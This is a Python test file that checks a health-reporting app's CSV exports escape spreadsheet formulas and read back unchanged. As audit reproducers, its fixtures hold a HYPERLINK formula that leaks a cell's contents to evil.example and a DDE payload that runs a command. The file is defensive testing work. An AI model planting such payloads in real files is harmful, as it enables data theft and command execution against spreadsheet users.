"""CSV exports never hand a spreadsheet a formula (issue 16, item 2), and read back unchanged.

Reproducers from the audit: a report note ``=HYPERLINK(...)`` and a facility name
``=cmd|' /C calc'!A0`` came back unescaped in ``exports/reports.csv``,
``exports/facilities.csv`` and ``dhis2/dataValueSets.csv``. Text cells starting with ``=``, ``+``,
``-`` or ``@`` are now written with a leading apostrophe; numbers are not; an import of the same
file reads the original text.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from data.schema.spreadsheet_text import FORMULA_PREFIXES, safe_text, unguarded_text

NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
NAME = "=cmd|' /C calc'!A0 Bệnh viện"
DAY = "2021-08-19"


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            if cell and cell.startswith(FORMULA_PREFIXES):
                # a number may start with "-"; text may not
                float(cell)
            assert column is not None


@pytest.fixture
def world(as_user: Any) -> dict[str, Any]:
    admin, reporter = as_user("admin"), as_user("repA")
    facility = admin.get("/facilities/79-A").get_json()
    answer = admin.put("/facilities/79-A", json={**facility, "name": NAME})
    assert answer.status_code == 200, answer.get_json()
    answer = reporter.post(
        "/facilities/79-A/reports",
        json={
            "report_date": DAY,
            "oxygen_used_24h_m3": 120,
            "patients_cannula_mask": 10,
            "note": NOTE,
        },
    )
    assert answer.status_code in (200, 201), answer.get_json()
    return {"admin": admin, "reporter": reporter}


def test_report_and_facility_exports_guard_formulas(world: dict[str, Any]) -> None:
    admin = world["admin"]
    reports = admin.get("/exports/reports.csv", query_string={"date_from": DAY, "date_to": DAY})
    assert reports.status_code == 200
    rows = _rows(reports.get_data())
    _no_formula(rows)
    notes = [r["note"] for r in rows if r["facility_id"] == "79-A"]
    assert notes == ["'" + NOTE]
    facilities = _rows(admin.get("/exports/facilities.csv").get_data())
    _no_formula(facilities)
    assert [r["name"] for r in facilities if r["facility_id"] == "79-A"] == ["'" + NAME]


def test_dhis2_csv_guards_the_note(world: dict[str, Any]) -> None:
    answer = world["admin"].get(
        "/dhis2/dataValueSets.csv", query_string={"startDate": DAY, "endDate": DAY}
    )
    assert answer.status_code == 200, answer.get_data(as_text=True)
    rows = _rows(answer.get_data())
    _no_formula(rows)
    assert "'" + NOTE in {r["value"] for r in rows}


def test_a_guarded_export_imports_back_as_the_original_text(world: dict[str, Any]) -> None:
    reporter = world["reporter"]
    exported = reporter.get(
        "/exports/reports.csv",
        query_string={"date_from": DAY, "date_to": DAY},
    )
    assert exported.status_code == 200, exported.get_data(as_text=True)
    answer = reporter.post("/imports/reports", data=exported.get_data(), content_type="text/csv")
    assert answer.status_code in (200, 201), answer.get_json()
    stored = reporter.get(f"/facilities/79-A/reports/{DAY}").get_json()
    assert stored["note"] == NOTE


@pytest.mark.parametrize("text", [NOTE, NAME, "+84 28 3855 4137", "@SUM(A1)", "-x", "\tx"])
def test_guard_and_unguard_round_trip(text: str) -> None:
    assert safe_text(text).startswith("'")
    assert unguarded_text(safe_text(text)) == text


def test_ordinary_text_is_untouched() -> None:
    for text in ("Bệnh viện Chợ Rẫy", "'quoted", "5.200"):
        assert safe_text(text) == text
        assert unguarded_text(text) == text
